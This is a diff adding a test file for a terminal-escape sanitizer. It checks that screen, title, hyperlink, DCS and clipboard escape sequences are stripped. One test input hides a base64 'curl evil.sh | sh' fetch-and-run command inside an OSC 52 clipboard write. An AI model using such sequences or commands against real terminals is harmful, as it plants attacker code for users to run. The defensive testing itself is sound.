@@ -1,0 +1,41 @@
+/* eslint-disable no-control-regex -- matching control characters is the purpose of this file */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { hasTerminalControls, stripTerminalControls } from './terminal-safe.ts';
+
+const ESC = '\u001b';
+const BEL = '\u0007';
+
+describe('stripTerminalControls', () => {
+  it.each([
+    ['clear screen and home', `${ESC}[2J${ESC}[Hbad token`, 'bad token'],
+    ['colours', `${ESC}[31;1mred${ESC}[0m`, 'red'],
+    ['window title by OSC 0 ended by BEL', `${ESC}]0;pwned${BEL}message`, 'message'],
+    ['OSC 52 clipboard write ended by ST', `a${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${ESC}\\b`, 'ab'],
+    ['unterminated OSC swallows the rest', `ok${ESC}]52;c;AAAA`, 'ok'],
+    ['hyperlink OSC 8', `${ESC}]8;;https://evil.test${ESC}\\click${ESC}]8;;${ESC}\\`, 'click'],
+    ['DCS', `${ESC}Pq#0;2;0;0;0${ESC}\\x`, 'x'],
+    ['terminal reset ESC c', `${ESC}cafter`, 'after'],
+    ['8-bit CSI and OSC', `\u009b2J\u009d0;t\u0007text`, 'text'],
+    ['BEL, backspace, carriage return overwrite', `INVALID${BEL}\b\b\rOK`, 'INVALIDOK'],
+    ['bidi overrides', 'abc\u202edcba\u202c', 'abcdcba'],
+  ])('removes %s', (_name, input, expected) => {
+    expect(stripTerminalControls(input)).toBe(expected);
+    expect(hasTerminalControls(input)).toBe(true);
+  });
+
+  it('keeps newlines, tabs and any printable text, Unicode included', () => {
+    const text = 'INPUT_INVALID\tsellAmount is required\r\nzid 0x111111111111111111111111 – ok ✓ 日本';
+    expect(stripTerminalControls(text)).toBe(text.replace('\r\n', '\n'));
+    expect(hasTerminalControls(text)).toBe(false);
+  });
+
+  it('leaves no ESC, BEL or other control character in any input', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom('a', ' ', '\n', '\t', ESC, '[', ']', '\\', BEL, '\u009b', '\u009d', '\u009c', ';', '2', 'J', 'P', '\r', '\u0000') , maxLength: 60 }), (text) => {
+        expect(stripTerminalControls(text)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
